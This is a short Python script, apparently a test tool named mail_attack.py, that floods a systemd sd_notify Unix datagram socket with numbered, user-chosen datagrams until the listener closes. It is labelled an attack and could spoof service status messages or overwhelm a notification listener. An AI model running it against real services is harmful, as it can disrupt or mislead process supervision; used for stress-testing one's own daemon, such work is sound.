r"""Sends datagrams to a socket of sd_notify(3), until it is killed: says "1000" for each thousand.

usage: mail_attack.py ADDRESS DATAGRAM

In DATAGRAM, "%d" is the number of it, and "\xNN" a byte.
"""

import os
import socket
import sys


def main() -> None:
    """Attack."""
    words = sys.argv[2].encode("ascii").decode("unicode_escape").encode("latin-1")
    number = 0
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as made:
        made.connect(sys.argv[1].replace("@", "\0", 1))
        while True:
            number += 1
            try:
                made.send(words.replace(b"%d", str(number).encode()))
            except OSError:
                return  # the one who listened has gone
            if number % 1000 == 0:
                os.write(1, b"1000\n")


if __name__ == "__main__":
    main()
